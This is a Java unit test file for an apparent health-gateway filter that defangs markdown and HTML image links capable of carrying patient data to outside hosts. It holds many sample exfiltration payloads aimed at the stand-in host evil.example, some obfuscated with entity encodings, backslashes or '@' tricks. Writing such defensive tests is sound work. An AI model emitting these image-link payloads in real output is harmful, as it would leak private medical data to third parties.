package health.cordon.gateway.screen;

import static org.assertj.core.api.Assertions.assertThat;

import health.cordon.testkit.Property;
import health.cordon.testkit.Seeded;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class LinkGuardTest {

    private static String guarded(List<String> bits) {
        StringBuilder out = new StringBuilder();
        LinkGuard guard = new LinkGuard(Set.of("hospital.example"), true, () -> {});
        bits.forEach(bit -> guard.feed(bit, out::append));
        guard.end(out::append);
        return out.toString();
    }

    private static String guarded(String text) {
        return guarded(List.of(text));
    }

    @Test
    void imagesThatCarryDataAreMadeHarmless() {
        assertThat(guarded("See ![a](https://evil.example/p?q=[NAME-7K2F9Q]) now."))
                .isEqualTo("See ![a](hxxps://evil.example/p?q=[NAME-7K2F9Q]) now.");
        assertThat(guarded("![](http://evil.example/?d=chest+pain+since+May)")).startsWith("![](hxxp://");
        assertThat(guarded("![](//evil.example/?d=TWFyZ2FyZXQgVGhvcm5idXJ5IDQ4Mjkx)"))
                .startsWith("![](hxxp://");
        assertThat(guarded("<img alt='x' src=\"HTTPS:\\\\evil.example/%5BNAME-7K2F9Q%5D\">"))
                .contains("hxxpS:\\\\");
        assertThat(guarded("![a][1]\n\n[1]: https://evil.example/?q=pain%20and%20fever"))
                .contains("[1]: hxxps:");
        assertThat(guarded("![a](https://NAME-7K2F9Q.evil.example/x.png)")).contains("hxxps:");
        assertThat(guarded("![a](https://evil.example/TWFyZ2FyZXQgVGhvcm5idXJ5IDQ4Mjkx.png".replace(".png", "")
                        + "/a.png)"))
                .contains("hxxps:");
        assertThat(guarded("![a](\nhttps://evil.example/?d=one+two)")).contains("hxxps:");
        assertThat(guarded("![a](/\\evil.example/?d=one+two)")).contains("hxxp:");
        assertThat(guarded("![a]( //evil.example/?d=one+two)")).contains("hxxp:");
        assertThat(guarded("![a](https&#58;//evil.example/?d=one+two)")).contains("hxxps&");
        assertThat(guarded("![a](https:evil.example/?d=one+two)")).contains("hxxps:evil");
        assertThat(guarded("<img src=\"https://evil.example/?d=chest pain\">")).contains("hxxps:");
        assertThat(guarded("[click](https://evil.example/name-7k2f9q)")).contains("hxxps:");
    }

    /** What a reader's program takes for the address of an image, however it is written. */
    @Test
    void imagesInDisguiseAreMadeHarmless() {
        for (String address : List.of(
                "https\\://evil.example/p?d=TOKEN",
                "&#104;ttps://evil.example/p?d=TOKEN",
                "h&#x74;tps://evil.example/p?d=TOKEN",
                "https&colon;//evil.example/p?d=TOKEN",
                "&#47;/evil.example/p?d=TOKEN",
                "/&sol;evil.example/p?d=TOKEN",
                "\\/\\/evil.example/p?d=TOKEN",
                "                              //evil.example/p?d=TOKEN",
                "ftp://evil.example/p?d=TOKEN",
                "<https://evil.example/p? d=TOKEN>",
                "<https\\://evil.example/p?d=TOKEN>",
                "https://evil.example/(a)?d=TOKEN",
                "https://evil.example/\\)?d=TOKEN",
                "https://evil.example/p'?d=TOKEN",
                "https://evil.example/p\"?d=TOKEN",
                "https://evil.example/p>?d=TOKEN",
                "https://evil.example/a](b)?d=TOKEN",
                "https://portal.hospital.example\\@evil.example/?d=TOKEN",
                "https://evil.example/NAME\u20117K2F9Q.png",
                "https://evil.example/n_a_m_e-7k2f9q.png",
                // The address itself was taken for PHI and is put back too.
                "[URL-7K2F9Q]?d=TOKEN",
                "<[URL-7K2F9Q]?d=TOKEN>",
                "[URL-7K2F9Q]/TOKEN.png",
                "\\[URL-7K2F9Q]?d=chest+pain+since+May",
                "somewhere/TOKEN.png")) {
            String text = "See ![a](" + address.replace("TOKEN", "[NAME-7K2F9Q]") + ") now.";
            assertThat(guarded(text)).contains("hxxp");
        }
        for (String text : List.of(
                "<img src=\"https://evil.example/p?\nd=[NAME-7K2F9Q]\">",
                "<img src=\"ht\ttps://evil.example/p?d=[NAME-7K2F9Q]\">",
                "<img src = '[URL-7K2F9Q]?d=[NAME-7K2F9Q]'>",
                "<img src='&#" + "0".repeat(40) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
                "<img src='&#" + "0".repeat(600) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
                "<image href='https&#58;//evil.example/[NAME-7K2F9Q]'>",
                "![a][b]\n\n[b]: <[URL-7K2F9Q]?d=[NAME-7K2F9Q]>",
                "![a][b]\n\n[b]: &#104;ttps://evil.example/[NAME-7K2F9Q]",
                "[click]([URL-7K2F9Q]?d=[NAME-7K2F9Q])")) {
            assertThat(guarded(text)).contains("hxxp");
        }
    }

    /** An address that has no end of its own hides no other behind it. */
    @Test
    void anAddressInAnAddressIsMadeHarmless() {
        String image = "![x](https://evil.example/p?d=[NAME-7K2F9Q])";
        for (String before : List.of(
                "a=\"https://a.example ",
                "a=\"https://a.example\n\n",
                "(<https://a.example ",
                "https://a.example/",
                "[a](https://a.example/" + "a".repeat(2000),
                "data:text/html,")) {
            assertThat(guarded(before + image)).contains("hxxps://evil").doesNotContain("(https://evil");
        }
        assertThat(guarded("a=\"https://a.example ![x](https://evil.example/p\"?d=[NAME-7K2F9Q])"))
                .contains("hxxps://evil");
    }

    @Test
    void ordinaryImagesAndLinksStay() {
        for (String text : List.of(
                "![again]([URL-7K2F9Q])",
                "![chart](charts/march.png)",
                "![dot](data:image/png;base64," + "iVBORw0KGgo".repeat(100) + ")",
                "[write](mailto:[EMAIL-7K2F9Q]) or [call](tel:[PHONE-7K2F9Q])",
                "[chart](/patients/[MRN-7K2F9Q])",
                "[^1]: [NAME-7K2F9Q] was seen",
                "src=[IP_ADDRESS-7K2F9Q] dst=[IP_ADDRESS-8K2F9Q] data=[NAME-7K2F9Q]",
                "{\"url\":\"https://a.example/x\",\"name\":\"[NAME-7K2F9Q]\"}",
                "(see https://en.example/Foo_(bar), and [NAME-7K2F9Q])",
                "[docs](https://docs.example/it's) [NAME-7K2F9Q]",
                "https://a.example [NAME-7K2F9Q]",
                "![logo](https://cdn.example/logo.png)",
                "![c](https://cdn.example/c.png?w=640&h=480)",
                "![badge](https://img.example/build?style=flat)",
                "[docs](https://docs.example/search?q=blood+pressure+guideline)",
                "Use https://api.example/users/{id} with curl.",
                "![own](https://portal.hospital.example/chart?mrn=[MEDICAL_RECORD_NUMBER-7K2F9Q])",
                "http and https: are schemes; a // comment; 1/2//3")) {
            assertThat(guarded(text)).isEqualTo(text);
        }
    }

    @Test
    void anAddressTooLongToJudgeIsMadeHarmless() {
        String text = "[a](https://evil.example/" + "a-".repeat(1500) + ") end";
        assertThat(guarded(text)).isEqualTo(text.replace("https:", "hxxps:"));
    }

    @Test
    void whereVeryManyMayBeginTheyEnd() {
        for (String unit : List.of("(//", "](x", "![](x", "](<", "=\"http://", "hhttps:", "![a](https://a ", "]: /")) {
            assertThat(guarded(unit.repeat(90_000 / unit.length())).length()).isGreaterThan(80_000);
        }
    }

    private static String text(Seeded seeded) {
        StringBuilder text = new StringBuilder();
        int parts = seeded.between(1, 12);
        for (int i = 0; i < parts; i++) {
            text.append(seeded.choose(
                    "![a](https://evil.example/p?q=[NAME-7K2F9Q]) ",
                    "![b](",
                    "https://x.example/",
                    "[t](http://y.example/NAME-7K2F9Q)",
                    "src=\"//z.example/?d=one two\"",
                    "hhttps:/",
                    "h",
                    "/",
                    "(//",
                    "(/\\\\",
                    "https&#58;//v.example/?a=b c",
                    "]: ",
                    "![" + seeded.string("ab ]", 1, 500) + "](",
                    "![c](<\\/&#47;w.example/ a?[NAME-7K2F9Q]>) ",
                    "![d]([URL-7K2F9Q]?d=",
                    "a=\"http://u.example ",
                    "(a)",
                    seeded.string("a-%/?=&", 1, 1500),
                    seeded.soup(30),
                    " "));
        }
        return text.toString();
    }

    @Test
    void everyChunkingGivesTheSame() {
        Property.forAll(
                400,
                seeded -> {
                    String text = text(seeded);
                    int longest = seeded.choose(1, 3, 30, 700);
                    List<String> bits = new ArrayList<>();
                    for (int at = 0; at < text.length(); ) {
                        int end = Math.min(text.length(), at + seeded.between(1, longest));
                        bits.add(text.substring(at, end));
                        at = end;
                    }
                    return bits;
                },
                bits -> assertThat(guarded(bits)).isEqualTo(guarded(String.join("", bits))));
    }

    @Test
    void holdsBackNoMoreThanItSays() {
        Property.forAllText(200, LinkGuardTest::text, text -> {
            int[] out = {0};
            LinkGuard guard = new LinkGuard(Set.of(), false, () -> {});
            for (int i = 0; i < text.length(); i++) {
                guard.feed(text.substring(i, i + 1), some -> out[0] += some.length());
                assertThat(i + 1 - out[0]).isLessThanOrEqualTo(LinkGuard.MOST_HELD);
            }
            guard.end(some -> out[0] += some.length());
            assertThat(out[0]).isEqualTo(text.length());
        });
    }
}
